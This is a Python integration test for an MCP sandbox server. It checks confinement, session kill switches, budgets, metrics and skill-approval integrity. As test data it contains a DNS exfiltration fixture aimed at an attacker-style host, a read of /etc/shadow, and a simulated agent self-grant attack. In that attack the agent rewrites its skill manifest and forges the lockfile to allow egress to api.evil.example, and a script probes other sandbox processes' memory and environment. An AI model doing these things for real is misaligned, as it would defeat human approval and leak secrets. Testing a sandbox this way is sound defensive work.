#!/usr/bin/env python3
"""Drive `skillsandbox serve` with the official MCP Python SDK as a real client.

Usage: SKILLSANDBOX_BIN=/path/to/skillsandbox python3 tests/mcp/test_mcp.py

Prints one line per check ("ok - ..." or "FAIL - ...") and exits non-zero if any
check failed. The skill fixtures in tests/mcp/skills are copied to a temporary
directory first, which becomes the server's --skills-dir (plus a symlink that points
out of it, to prove escapes are refused).

The server runs as one session of the session policy engine (`--session`,
`--policy`), with its own session store, audit log and config directory under the
temporary directory: usage is reported and read back, the session is killed from a
second process while a sandbox runs, later runs are refused, the killed state
survives a server restart, and `max_runs` (from the default policy location) refuses.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
import tempfile
import time
import traceback
import urllib.error
import urllib.request
import uuid
from pathlib import Path
from typing import Any

import anyio
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

HERE = Path(__file__).resolve().parent
EXFIL_NAME = "secret.exfil.attacker.example"
EXPECTED_TOOLS = {
    "run_skill",
    "exec_command",
    "validate_skill",
    "inspect_skill",
    "list_skills",
    "session_status",
    "report_usage",
}
CANCEL_DEADLINE_S = 5.0
# How long a running tool call may take to come back after `session kill` (the
# sandbox must die within 1 s; accounting and the response add a little).
KILL_DEADLINE_S = 2.0
SESSION = "mcp-python-test"
MAX_RUNS = 50
COST_BUDGET = 10.0
POLICY = f"""\
version: 1
session:
  max_runs: {MAX_RUNS}
budget:
  cost_usd: {COST_BUDGET}
  alert_at: 0.5
  on_exceed: alert
violations:
  thresholds:
    dns_blocked: 1
  on_threshold: alert
prices:
  test-model: {{input_per_mtok: 500000, output_per_mtok: 0}}
"""

failures: list[str] = []
# The binary, the environment (for the second process) and the policy file.
SESSION_ENV: dict[str, Any] = {}


def check(name: str, cond: bool, detail: Any = "") -> bool:
    if cond:
        print(f"ok - {name}", flush=True)
    else:
        failures.append(name)
        text = detail if isinstance(detail, str) else json.dumps(detail, indent=1, default=str)
        print(f"FAIL - {name}\n    {text[:3000]}", flush=True)
    return cond


def text_of(result) -> str:
    return "\n".join(getattr(c, "text", "") for c in result.content)


def marker_pids(marker: str) -> list[int]:
    """Host processes whose command line contains `marker` (excluding ourselves)."""
    found = []
    needle = marker.encode()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if needle in f.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def layer_names(structured: dict) -> set[str]:
    return {layer.get("layer") for layer in structured.get("enforcement", [])}


async def wait_for(predicate, timeout: float, interval: float = 0.1) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        await anyio.sleep(interval)
    return predicate()


async def scenario(session: ClientSession, skills: Path, version: str | None) -> None:
    runs = 0

    # --- initialize ------------------------------------------------------------
    init = await session.initialize()
    check(
        "initialize: serverInfo is skillsandbox" + (f" {version}" if version else ""),
        init.server_info.name == "skillsandbox"
        and (version is None or init.server_info.version == version),
        init.server_info.model_dump(),
    )
    check(
        "initialize: newest protocol version with a handshake (2025-11-25)",
        init.protocol_version == "2025-11-25",
        init.protocol_version,
    )
    check("initialize: tools capability", init.capabilities.tools is not None)

    # --- tools and schemas -----------------------------------------------------
    listed = await session.list_tools()
    tools = {t.name: t for t in listed.tools}
    check("tools/list: all seven tools", set(tools) == EXPECTED_TOOLS, sorted(tools))
    for name, tool in sorted(tools.items()):
        check(
            f"tools/list: {name} has a documented input schema and an output schema",
            tool.input_schema.get("type") == "object"
            and bool(tool.description)
            and tool.output_schema is not None
            and tool.output_schema.get("type") == "object",
            {"input": tool.input_schema, "output": tool.output_schema},
        )
    props = tools["exec_command"].input_schema.get("properties", {})
    check(
        "tools/list: exec_command arguments described",
        {"command", "workdir", "allow_domains", "read", "write", "env", "timeout_s", "memory_mb"}
        <= set(props)
        and all(p.get("description") for p in props.values())
        and tools["exec_command"].input_schema.get("required") == ["command"],
        tools["exec_command"].input_schema,
    )
    check(
        "tools/list: run_skill output schema names violations, trace and session decisions",
        {"exit_code", "termination", "violations", "enforcement", "usage", "trace_id", "trace_path", "session"}
        <= set(tools["run_skill"].output_schema.get("properties", {})),
        tools["run_skill"].output_schema,
    )
    props = tools["report_usage"].input_schema.get("properties", {})
    check(
        "tools/list: report_usage arguments (model, input_tokens, output_tokens, usd) typed and described",
        set(props) == {"model", "input_tokens", "output_tokens", "usd"}
        and all(p.get("description") for p in props.values())
        and not tools["report_usage"].input_schema.get("required")
        and {"cost", "decisions", "total_cost_usd", "budget"}
        <= set(tools["report_usage"].output_schema.get("properties", {})),
        {"input": tools["report_usage"].input_schema, "output": tools["report_usage"].output_schema},
    )
    check(
        "tools/list: session_status output schema is the engine's status",
        {"id", "state", "runs", "usage", "violations", "budgets", "kill_reason", "next_run_refused", "server"}
        <= set(tools["session_status"].output_schema.get("properties", {})),
        tools["session_status"].output_schema,
    )

    # --- list_skills -----------------------------------------------------------
    res = await session.call_tool("list_skills", {})
    found = {s["name"]: s for s in (res.structured_content or {}).get("skills", [])}
    check(
        "list_skills: manifest skills, the broken one and the SKILL.md agent skill",
        not res.is_error
        and {"hello", "exfil", "sleeper", "broken", "notes"} <= set(found)
        and found["hello"]["runnable"] == "manifest"
        and found["broken"]["runnable"] == "no"
        and found["notes"]["kind"] == "agent_skill"
        and found["notes"]["runnable"] == "deny_all_defaults"
        and "Counts the lines" in (found["notes"]["description"] or ""),
        res.model_dump(),
    )

    # --- a benign skill --------------------------------------------------------
    res = await session.call_tool("run_skill", {"skill": "hello", "args": ["world"]})
    runs += 1
    s = res.structured_content or {}
    check(
        "run_skill hello: exit 0 with structured stdout and no violations",
        not res.is_error
        and s.get("exit_code") == 0
        and s.get("termination") == "exited"
        and "hello from the sandbox: world" in s.get("stdout", "")
        and s.get("violations") == []
        and s.get("stdout_truncated") is False
        and bool(s.get("trace_id")),
        res.model_dump(),
    )
    check(
        "run_skill hello: enforcement report and written trace",
        all(l.get("status") == "enforced" for l in s.get("enforcement", []))
        and {"user_namespace", "seccomp", "landlock"} <= layer_names(s)
        and s.get("trace_path")
        and Path(s["trace_path"]).is_file(),
        s.get("enforcement"),
    )
    check(
        "run_skill hello: readable text block",
        "exit 0" in text_of(res) and "hello from the sandbox" in text_of(res),
        text_of(res),
    )

    # --- DNS exfiltration -------------------------------------------------------
    res = await session.call_tool("run_skill", {"skill": "exfil"})
    runs += 1
    s = res.structured_content or {}
    check(
        "run_skill exfil: the DNS lookup failed (no breach); isError with a structured result",
        res.is_error
        and s.get("exit_code") not in (0, None)
        and "LEAKED" not in s.get("stdout", "")
        and "failed" in s.get("stdout", ""),
        res.model_dump(),
    )
    dns_blocks = [
        v for v in s.get("violations", []) if v.get("kind") == "dns_blocked" and EXFIL_NAME in v.get("detail", "")
    ]
    check(
        f"run_skill exfil: {EXFIL_NAME} is among the violations (dns_blocked) and the DNS records",
        bool(dns_blocks)
        and any(
            d.get("name") == EXFIL_NAME and d.get("decision") == "blocked"
            for d in s.get("network", {}).get("dns", [])
        )
        and EXFIL_NAME in text_of(res)
        and "BLOCKED dns_blocked" in text_of(res),
        res.model_dump(),
    )
    check(
        "run_skill exfil: the session policy's dns_blocked threshold alert is in the result",
        any("alert" in line and "dns_blocked" in line for line in s.get("session", []))
        and "SESSION " in text_of(res),
        {"session": s.get("session"), "text": text_of(res)},
    )

    # --- broken manifest --------------------------------------------------------
    res = await session.call_tool("validate_skill", {"path": "broken"})
    s = res.structured_content or {}
    errs = s.get("errors", [])
    check(
        "validate_skill broken: ok false with the error's line (5) and field",
        s.get("ok") is False
        and any(e.get("line") == 5 and "permisions" in (e.get("field", "") + e.get("message", "")) for e in errs),
        res.model_dump(),
    )
    res = await session.call_tool("validate_skill", {"path": "hello"})
    check(
        "validate_skill hello: ok",
        (res.structured_content or {}).get("ok") is True
        and (res.structured_content or {}).get("skill", {}).get("name") == "hello",
        res.model_dump(),
    )
    res = await session.call_tool("inspect_skill", {"path": "hello/skillsandbox.yaml"})
    pol = (res.structured_content or {}).get("policy", {})
    check(
        "inspect_skill hello: resolved policy (skill dir absolute, no egress)",
        not res.is_error
        and pol.get("skill_dir") == str(skills / "hello")
        and pol.get("network", {}).get("egress") == [],
        res.model_dump(),
    )
    res = await session.call_tool("run_skill", {"skill": "broken"})
    check(
        "run_skill broken: refused as a tool error naming the line",
        res.is_error and ":5:" in text_of(res),
        res.model_dump(),
    )

    # --- paths outside the skills dir ------------------------------------------
    for label, args in [
        ("absolute path", {"path": "/etc"}),
        ("../ escape", {"path": "../../../../../etc"}),
        ("symlink escape", {"path": "escape"}),
    ]:
        res = await session.call_tool("validate_skill", args)
        check(
            f"validate_skill refuses a path outside the skills dir ({label})",
            res.is_error and "outside the skills directories" in text_of(res),
            res.model_dump(),
        )
    res = await session.call_tool("run_skill", {"skill": "/etc"})
    check(
        "run_skill refuses a path outside the skills dir",
        res.is_error and "outside the skills directories" in text_of(res),
        res.model_dump(),
    )
    res = await session.call_tool("list_skills", {"directory": "/"})
    check("list_skills refuses a directory outside the skills dir", res.is_error, res.model_dump())

    # --- exec_command, confined -------------------------------------------------
    res = await session.call_tool(
        "exec_command", {"command": ["sh", "-c", "id -u; cat /proc/self/uid_map"]}
    )
    runs += 1
    s = res.structured_content or {}
    lines = s.get("stdout", "").split("\n")
    uid_map = lines[1].split() if len(lines) > 1 else []
    check(
        "exec_command: uid 0 inside maps to a non-root host uid",
        not res.is_error
        and lines[0] == "0"
        and len(uid_map) == 3
        and uid_map[0] == "0"
        and uid_map[1] != "0",
        res.model_dump(),
    )
    res = await session.call_tool("exec_command", {"command": ["cat", "/etc/shadow"]})
    runs += 1
    s = res.structured_content or {}
    check(
        "exec_command: cat /etc/shadow fails (isError, non-zero exit, nothing read)",
        res.is_error and s.get("exit_code") not in (0, None) and "root:" not in s.get("stdout", ""),
        res.model_dump(),
    )
    res = await session.call_tool(
        "exec_command",
        {"command": ["python3", "-c", f"import socket; socket.getaddrinfo({EXFIL_NAME!r}, 443)"]},
    )
    runs += 1
    s = res.structured_content or {}
    check(
        "exec_command without allow_domains: a DNS lookup fails (no network at all)",
        res.is_error and s.get("exit_code") not in (0, None) and "gaierror" in s.get("stderr", ""),
        res.model_dump(),
    )
    out_dir = skills.parent / "out" / "job"
    res = await session.call_tool(
        "exec_command",
        {
            "command": ["sh", "-c", f"echo confined > {out_dir}/result.txt"],
            "write": [str(out_dir)],
        },
    )
    runs += 1
    check(
        "exec_command: a write grant inside the operator ceiling works",
        not res.is_error and (out_dir / "result.txt").read_text() == "confined\n",
        res.model_dump(),
    )
    res = await session.call_tool("exec_command", {"command": ["cat", "/etc/passwd"], "read": ["/etc"]})
    check(
        "exec_command: a read grant beyond the operator ceiling is refused",
        res.is_error and "ceiling" in text_of(res) and "/etc" in text_of(res),
        res.model_dump(),
    )
    res = await session.call_tool("exec_command", {"command": ["true"], "memory_mb": 100000})
    check(
        "exec_command: memory beyond the ceiling is refused naming memory_mb",
        res.is_error and "memory_mb" in text_of(res),
        res.model_dump(),
    )

    # --- agent skill (SKILL.md, no manifest) -----------------------------------
    res = await session.call_tool("run_skill", {"skill": "notes"})
    runs += 1
    s = res.structured_content or {}
    check(
        "run_skill notes (SKILL.md only): its one script runs under deny-all defaults",
        not res.is_error and s.get("stdout", "").strip() == "3",
        res.model_dump(),
    )

    # --- cancel a long run (and run other calls meanwhile) ----------------------
    marker = f"skillsandbox-mcp-test-{uuid.uuid4().hex}"
    outcome: dict[str, Any] = {}

    async def long_call() -> None:
        try:
            outcome["result"] = await session.call_tool(
                "run_skill", {"skill": "sleeper", "args": [marker]}
            )
        except BaseException as e:  # noqa: BLE001 - cancellation is the expected path
            outcome["error"] = e
            raise

    async with anyio.create_task_group() as tg:
        tg.start_soon(long_call)
        started = await wait_for(lambda: bool(marker_pids(marker)), 30)
        check("cancel: the sleeper's sandboxed process is visible on the host", started)
        status = await session.call_tool("session_status", {})
        st = status.structured_content or {}
        check(
            "concurrency: session_status answers while a run is in flight (running = 1, unfinished = 1)",
            st.get("server", {}).get("running") == 1 and st.get("runs", {}).get("unfinished") == 1,
            status.model_dump(),
        )
        res = await session.call_tool("exec_command", {"command": ["echo", "parallel"]})
        runs += 1
        check(
            "concurrency: exec_command completes while the sleeper runs",
            not res.is_error and (res.structured_content or {}).get("stdout") == "parallel\n" and bool(marker_pids(marker)),
            res.model_dump(),
        )
        t0 = time.monotonic()
        tg.cancel_scope.cancel()  # the SDK sends notifications/cancelled for the request
    runs += 1
    gone = await wait_for(lambda: not marker_pids(marker), CANCEL_DEADLINE_S)
    check(
        f"cancel: no host process with the marker {CANCEL_DEADLINE_S:.0f} s after notifications/cancelled "
        f"(gone after {time.monotonic() - t0:.2f} s)",
        gone and "result" not in outcome,
        {"survivors": marker_pids(marker), "outcome": str(outcome)},
    )

    # --- session_status ---------------------------------------------------------
    async def status_settled():
        st = (await session.call_tool("session_status", {})).structured_content or {}
        return st

    st = await status_settled()
    deadline = time.monotonic() + 10
    while st.get("server", {}).get("running") and time.monotonic() < deadline:
        await anyio.sleep(0.2)
        st = await status_settled()
    check(
        f"session_status: {runs} runs started and accounted, the cancelled one among them, dns_blocked counted",
        st.get("id") == SESSION
        and st.get("recorded") is True
        and st.get("state") == "open"
        and st.get("runs", {}).get("started") == runs
        and st.get("runs", {}).get("finished") == runs
        and st.get("limits", {}).get("runs_left") == MAX_RUNS - runs
        and st.get("server", {}).get("runs") == runs
        and st.get("server", {}).get("cancelled_runs") == 1
        and st.get("server", {}).get("running") == 0
        and st.get("server", {}).get("failed_runs", 0) >= 3
        and st.get("violations", {}).get("dns_blocked", 0) >= 1
        and st.get("next_run_refused") is None
        and st.get("kill_reason") is None,
        st,
    )
    check(
        "session_status: the cost budget is reported from the policy, nothing used yet",
        [(b.get("name"), b.get("limit"), b.get("used"), b.get("left")) for b in st.get("budgets", [])]
        == [("cost_usd", COST_BUDGET, 0.0, COST_BUDGET)],
        st.get("budgets"),
    )

    await session_policy(session, runs)


async def session_policy(session: ClientSession, runs: int) -> None:
    """report_usage, a kill from a second process, refusals, the killed state."""
    binary = SESSION_ENV["binary"]
    env = SESSION_ENV["env"]
    policy = SESSION_ENV["policy"]

    # --- (a) report_usage ------------------------------------------------------
    res = await session.call_tool("report_usage", {"usd": 6.0})
    r = res.structured_content or {}
    check(
        "report_usage usd 6.0: recorded, total 6.0, budget left 4.0, alert at 50% of the cost budget",
        not res.is_error
        and r.get("cost", {}).get("usd") == 6.0
        and r.get("total_cost_usd") == 6.0
        and r.get("budget", {}).get("left") == COST_BUDGET - 6.0
        and [d.get("action") for d in r.get("decisions", [])] == ["alert"]
        and any("cost_usd" in line for line in r.get("session", [])),
        res.model_dump(),
    )
    res = await session.call_tool("report_usage", {"model": "test-model", "input_tokens": 2})
    r = res.structured_content or {}
    check(
        "report_usage tokens: priced by the policy's table (2 tokens at $500000/Mtok = $1), no new decision",
        not res.is_error
        and r.get("cost") == {"model": "test-model", "input_tokens": 2, "output_tokens": 0, "usd": 1.0}
        and r.get("total_cost_usd") == 7.0
        and r.get("decisions") == [],
        res.model_dump(),
    )
    res = await session.call_tool("report_usage", {"model": "no-such-model", "output_tokens": 5})
    check(
        "report_usage: an unknown model is a tool error naming the known ones",
        res.is_error and "no-such-model" in text_of(res) and "test-model" in text_of(res),
        res.model_dump(),
    )
    res = await session.call_tool("report_usage", {"model": "test-model", "input_tokens": 1, "usd": 1.0})
    check(
        "report_usage: tokens and usd together are refused (exactly one)",
        res.is_error and "not both" in text_of(res),
        res.model_dump(),
    )
    st = (await session.call_tool("session_status", {})).structured_content or {}
    check(
        "session_status: the reported cost is in the usage and the cost budget",
        st.get("usage", {}).get("cost_usd") == 7.0
        and [(b.get("name"), b.get("used"), b.get("left")) for b in st.get("budgets", [])]
        == [("cost_usd", 7.0, COST_BUDGET - 7.0)],
        st,
    )

    # --- (b) session kill from a second process stops the running sandbox --------
    marker = f"skillsandbox-mcp-kill-{uuid.uuid4().hex}"
    outcome: dict[str, Any] = {}

    async def long_call() -> None:
        outcome["result"] = await session.call_tool("run_skill", {"skill": "sleeper", "args": [marker]})
        outcome["at"] = time.monotonic()

    async with anyio.create_task_group() as tg:
        tg.start_soon(long_call)
        started = await wait_for(lambda: bool(marker_pids(marker)), 30)
        check("kill: the sleeper's sandboxed process is visible on the host", started)
        t0 = time.monotonic()
        killer = await anyio.run_process(
            [binary, "session", "kill", SESSION, "--reason", "test", "--policy", str(policy)],
            env=env,
            check=False,
        )
        check(
            "kill: `skillsandbox session kill` from a second process succeeds",
            killer.returncode == 0,
            {"rc": killer.returncode, "stdout": killer.stdout.decode(), "stderr": killer.stderr.decode()},
        )
        returned = await wait_for(lambda: "result" in outcome, 10, interval=0.02)
        if not returned:
            tg.cancel_scope.cancel()
    runs += 1
    elapsed = outcome.get("at", time.monotonic()) - t0
    res = outcome.get("result")
    s = (res.structured_content or {}) if res else {}
    check(
        f"kill: the running tool call returned {elapsed:.2f} s after `session kill` started "
        f"(limit {KILL_DEADLINE_S:.0f} s) "
        "with termination killed (137)",
        res is not None
        and elapsed <= KILL_DEADLINE_S
        and res.is_error
        and s.get("termination") == "killed"
        and s.get("exit_code") == 137
        and any("kill switch" in line and "test" in line for line in s.get("session", [])),
        res.model_dump() if res else "no result",
    )
    survivors = marker_pids(marker)
    check("kill: no host process with the marker remains", not survivors, {"survivors": survivors})

    # --- (c) later runs are refused ----------------------------------------------
    res = await session.call_tool("run_skill", {"skill": "hello", "args": ["again"]})
    check(
        "after the kill: run_skill is refused (isError) with the reason naming the kill",
        res.is_error
        and res.structured_content is None
        and "refused by the session policy (killed)" in text_of(res)
        and "test" in text_of(res)
        and "session reset" in text_of(res),
        res.model_dump(),
    )
    res = await session.call_tool("exec_command", {"command": ["true"]})
    check(
        "after the kill: exec_command is refused too",
        res.is_error and "killed" in text_of(res),
        res.model_dump(),
    )

    # --- (d) session_status shows the kill ---------------------------------------
    st = (await session.call_tool("session_status", {})).structured_content or {}
    check(
        "session_status after the kill: state killed, the reason, the refusals, no new run started",
        st.get("state") == "killed"
        and st.get("kill_reason") == "test"
        and bool(st.get("killed_at"))
        and "killed" in (st.get("next_run_refused") or "")
        and st.get("runs", {}).get("started") == runs
        and st.get("runs", {}).get("finished") == runs
        and st.get("server", {}).get("refused_runs") == 2,
        st,
    )
    audit = [json.loads(line) for line in Path(env["SKILLSANDBOX_AUDIT_LOG"]).read_text().splitlines()]
    events = [r["body"].get("event") for r in audit if r.get("kind") == "session"]
    check(
        "audit log: the session's alert, kill and refusals are recorded",
        "alert" in events and "kill" in events and events.count("refused") >= 2,
        events,
    )


async def discover_probe(params: StdioServerParameters) -> None:
    """A second connection on the newest protocol revision (no handshake)."""
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write) as session:
            result = await session.discover()
            check(
                "server/discover: newest protocol revision 2026-07-28 supported",
                "2026-07-28" in result.supported_versions,
                result.model_dump(),
            )
            res = await session.call_tool("session_status", {})
            check(
                "2026-07-28: tools/call works without a handshake; a restarted server finds the session killed",
                not res.is_error
                and (res.structured_content or {}).get("id") == SESSION
                and (res.structured_content or {}).get("state") == "killed",
                res.model_dump(),
            )
            res = await session.call_tool("exec_command", {"command": ["true"]})
            check(
                "restart: the killed session still refuses runs",
                res.is_error and "refused by the session policy (killed)" in text_of(res),
                res.model_dump(),
            )


async def max_runs_probe(binary: str, base: Path, env: dict[str, str]) -> None:
    """A server with no --policy: the default location supplies `max_runs: 1`."""
    config = base / "config-maxruns"
    (config / "skillsandbox").mkdir(parents=True)
    default_policy = config / "skillsandbox" / "policy.yaml"
    default_policy.write_text("session:\n  max_runs: 1\n")
    params = StdioServerParameters(
        command=binary,
        args=["serve", "--session", "mcp-python-max-runs"],
        env={**env, "XDG_CONFIG_HOME": str(config)},
        cwd=str(base),
    )
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write) as session:
            await session.initialize()
            res = await session.call_tool("exec_command", {"command": ["echo", "one"]})
            check("max_runs 1: the first run is admitted", not res.is_error, res.model_dump())
            res = await session.call_tool("exec_command", {"command": ["echo", "two"]})
            check(
                "max_runs 1 (default policy location): the second run is refused naming max_runs",
                res.is_error
                and "refused by the session policy (max_runs)" in text_of(res)
                and "max_runs reached (1 of 1" in text_of(res),
                res.model_dump(),
            )
            st = (await session.call_tool("session_status", {})).structured_content or {}
            check(
                "max_runs 1: session_status shows the default policy file, 0 runs left, the next run refused",
                st.get("policy_source") == str(default_policy)
                and st.get("limits", {}).get("runs_left") == 0
                and "max_runs" in (st.get("next_run_refused") or "")
                and st.get("state") == "open",
                st,
            )


def scrape(url: str) -> dict:
    """GET the metrics with a real HTTP client and parse them with the Prometheus
    project's own parser: {(name, frozenset(labels.items())): value}."""
    from prometheus_client.parser import text_string_to_metric_families

    with urllib.request.urlopen(url, timeout=10) as r:
        ctype = r.headers.get("Content-Type", "")
        text = r.read().decode()
    assert ctype.startswith("text/plain; version=0.0.4"), ctype
    out = {}
    for family in text_string_to_metric_families(text):
        for s in family.samples:
            out[(s.name, frozenset(s.labels.items()))] = s.value
    return out


async def metrics_probe(binary: str, base: Path, env: dict[str, str]) -> None:
    """`serve --metrics`: runs by outcome, violations by kind, launch latency,
    egress bytes and the session's budget, scraped and parsed."""
    policy = base / "metrics-policy.yaml"
    policy.write_text("session: {max_runs: 3}\nbudget: {wall_seconds: 600}\n")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    url = f"http://127.0.0.1:{port}/metrics"
    sid = "mcp-python-metrics"
    params = StdioServerParameters(
        command=binary,
        args=["serve", "--session", sid, "--policy", str(policy), "--metrics", f"127.0.0.1:{port}"],
        env=env,
        cwd=str(base),
    )
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write) as session:
            await session.initialize()
            before = scrape(url)
            check(
                "metrics: scraped before any run, no runs counted",
                not any(k[0] == "skillsandbox_runs_total" for k in before),
                before,
            )
            res = await session.call_tool("exec_command", {"command": ["echo", "one"]})
            check("metrics: a benign run", not res.is_error, res.model_dump())
            res = await session.call_tool(
                "exec_command", {"command": ["sleep", "5"], "timeout_s": 1}
            )
            res = await session.call_tool("exec_command", {"command": ["true"]})
            res = await session.call_tool("exec_command", {"command": ["true"]})
            check("metrics: the fourth run is refused (max_runs 3)", res.is_error, res.model_dump())
            m = scrape(url)
            def v(name, **labels):
                return m.get((name, frozenset(labels.items())))
            check(
                "metrics: runs by outcome (2 exited, 1 timeout, 1 refused)",
                v("skillsandbox_runs_total", outcome="exited") == 2
                and v("skillsandbox_runs_total", outcome="timeout") == 1
                and v("skillsandbox_runs_total", outcome="refused") == 1,
                {k: x for k, x in m.items() if k[0] == "skillsandbox_runs_total"},
            )
            check(
                "metrics: violations by kind (the timeout)",
                v("skillsandbox_violations_total", kind="timeout") == 1,
                {k: x for k, x in m.items() if k[0] == "skillsandbox_violations_total"},
            )
            count = v("skillsandbox_launch_seconds_count")
            total = v("skillsandbox_launch_seconds_sum")
            check(
                "metrics: launch latency histogram over the 3 runs, each under a second",
                count == 3 and total is not None and 0 < total < 3
                and [x for k, x in m.items()
                     if k[0] == "skillsandbox_launch_seconds_bucket" and float(dict(k[1])["le"]) == 1.0] == [3],
                (count, total, {k: x for k, x in m.items() if k[0] == "skillsandbox_launch_seconds_bucket"}),
            )
            check(
                "metrics: egress bytes counter (no network declared: 0)",
                v("skillsandbox_egress_bytes_total") == 0,
                v("skillsandbox_egress_bytes_total"),
            )
            wall = v("skillsandbox_session_usage", session=sid, budget="wall_seconds")
            check(
                "metrics: the session's budget used and limit, and its runs, from the store",
                wall is not None and wall >= 1.0
                and v("skillsandbox_session_budget_limit", session=sid, budget="wall_seconds") == 600
                and v("skillsandbox_session_runs", session=sid, state="started") == 3
                and v("skillsandbox_session_runs", session=sid, state="finished") == 3
                and v("skillsandbox_session_killed", session=sid) == 0,
                {k: x for k, x in m.items() if k[0].startswith("skillsandbox_session")},
            )
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/other", timeout=10)
                check("metrics: other paths are 404", False)
            except urllib.error.HTTPError as e:
                check("metrics: other paths are 404", e.code == 404, e.code)


async def approval_probe(binary: str, base: Path, env: dict[str, str]) -> None:
    """The self-grant attack over MCP: an agent's confined exec_command, with the
    project writable, widens an approved skill's manifest and then the lockfile;
    run_skill still refuses the widened skill, and no tool approves."""
    import subprocess

    proj = base / "approval-proj"
    (proj / ".git").mkdir(parents=True)
    skill = proj / "skills" / "hello"
    shutil.copytree(HERE / "skills" / "hello", skill)
    approved = subprocess.run(
        [binary, "approve", str(skill)], env={**os.environ, **env}, capture_output=True, text=True
    )
    check("approve (the user, outside any sandbox) records the skill", approved.returncode == 0, approved.stderr)
    lock = proj / "skillsandbox.lock"
    params = StdioServerParameters(
        command=binary,
        args=["serve", "--skills-dir", str(proj / "skills"), "--session", "mcp-python-approval",
              "--ceiling-write", str(proj)],
        env=env,
        cwd=str(base),
    )
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write) as session:
            await session.initialize()
            names = {t.name for t in (await session.list_tools()).tools}
            check("no MCP tool approves a skill", not any("approv" in n for n in names), sorted(names))
            res = await session.call_tool("run_skill", {"skill": "hello", "args": ["approved"]})
            check("run_skill: the approved skill runs", not res.is_error
                  and "hello from the sandbox: approved" in (res.structured_content or {}).get("stdout", ""),
                  res.model_dump())
            manifest = skill / "skillsandbox.yaml"
            wide = manifest.read_text() + (
                "\n# widened by the agent\npermissions:\n  network:\n    egress:\n"
                "      - domain: api.evil.example\n"
            )
            res = await session.call_tool("exec_command", {
                "command": ["sh", "-c", 'printf "%s" "$0" > "$1"', wide, str(manifest)],
                "write": [str(proj)],
            })
            check("exec_command (confined, project writable) rewrites the skill's manifest",
                  not res.is_error and manifest.read_text() == wide, res.model_dump())
            res = await session.call_tool("run_skill", {"skill": "hello"})
            check("run_skill: the widened skill is refused with the permission diff",
                  res.is_error and "+ network: api.evil.example:443" in text_of(res)
                  and "skillsandbox approve" in text_of(res)
                  and "hello from the sandbox" not in text_of(res), res.model_dump())
            # Now the lockfile: rewrite its record to the widened permissions and the
            # new manifest's hash, as an agent that read the format would.
            record = json.loads(lock.read_text())
            entry = next(iter(record["skills"].values()))
            entry["permissions"].insert(0, "network: api.evil.example:443")
            entry["permissions"].remove("network: none")
            forged = json.dumps(record, indent=2)
            res = await session.call_tool("exec_command", {
                "command": ["sh", "-c", 'printf "%s" "$0" > "$1"', forged, str(lock)],
                "write": [str(proj)],
            })
            check("exec_command rewrites the lockfile (it is in the project)",
                  not res.is_error and lock.read_text() == forged, res.model_dump())
            res = await session.call_tool("run_skill", {"skill": "hello"})
            check("run_skill: after the lockfile edit the widened skill is still refused",
                  res.is_error and "changed after it was approved" in text_of(res)
                  and "hello from the sandbox" not in text_of(res), res.model_dump())
            res = await session.call_tool("exec_command", {
                "command": ["rm", "-f", str(lock)], "write": [str(proj)],
            })
            res = await session.call_tool("run_skill", {"skill": "hello"})
            check("run_skill: with the lockfile deleted the widened skill is still refused",
                  res.is_error and "is gone" in text_of(res), res.model_dump())
            state = Path(env["XDG_STATE_HOME"])
            res = await session.call_tool("exec_command", {
                "command": ["rm", "-rf", str(state / "skillsandbox" / "approvals")],
                "write": [str(state)],
            })
            check("exec_command may not write the approval store (beyond the ceiling)",
                  res.is_error and "ceiling" in text_of(res)
                  and (state / "skillsandbox" / "approvals").is_dir(), res.model_dump())

WARM_SCRIPT = r"""
import os, signal, socket, subprocess, sys, time
mode, mark = sys.argv[1], sys.argv[2]
tmp = os.environ.get("TMPDIR", "/tmp")
def procs():
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != os.getpid():
            try:
                with open(f"/proc/{p}/cmdline", "rb") as f:
                    yield int(p), f.read()
            except OSError:
                pass
if mode == "leave":
    left = []
    for d in {tmp, "/tmp"}:
        try:
            with open(f"{d}/warm-{mark}", "w") as f:
                f.write("left")
            left.append(f"file {d}")
        except OSError:
            pass
    subprocess.Popen(["python3", "-c", "import time; time.sleep(300)", mark],
                     start_new_session=True)
    left.append("process")
    try:
        s = socket.socket(socket.AF_UNIX)
        s.bind("\0ss-warm-" + mark)
        s.listen()
        if os.fork() == 0:
            os.setsid()
            time.sleep(300)
            os._exit(0)
        left.append("socket")
    except OSError:
        pass
    # The stages held ready for other runs: signal (0: no effect), control socket,
    # environment, memory.
    mine, p = {1}, os.getpid()  # 1: on the container tier, our own init (a stage fork)
    while p > 1:
        mine.add(p)
        with open(f"/proc/{p}/status") as f:
            p = int(next(l for l in f if l.startswith("PPid:")).split()[1])
    hits, seen = [], 0
    for pid, cmd in procs():
        if b"__skillsandbox-stage" not in cmd or pid in mine:
            continue
        seen += 1
        for what, attack in (("signal", lambda: os.kill(pid, 0)),
                             ("control fd", lambda: open(f"/proc/{pid}/fd/3", "wb")),
                             ("environ", lambda: open(f"/proc/{pid}/environ", "rb").read()),
                             ("mem", lambda: open(f"/proc/{pid}/mem", "rb"))):
            try:
                attack()
                hits.append(f"{what} {pid}")
            except OSError:
                pass
    print("LEFT", " / ".join(left))
    print("STAGES SEEN", seen, "HITS", hits)
else:
    found = []
    for d in {tmp, "/tmp"}:
        if os.path.exists(f"{d}/warm-{mark}"):
            found.append(f"file {d}")
    found += [f"process {pid}" for pid, cmd in procs() if mark.encode() in cmd
              and b"check" not in cmd]
    try:
        c = socket.socket(socket.AF_UNIX)
        c.connect("\0ss-warm-" + mark)
        found.append("socket")
    except OSError:
        pass
    if any(mark in v for v in os.environ.values()):
        found.append("env")
    print("FOUND", found)
"""


async def warm_probe(binary: str, base: Path, env: dict[str, str]) -> None:
    """Issue 17's warm path: `serve` keeps a stage spawned ahead of the next run. Two
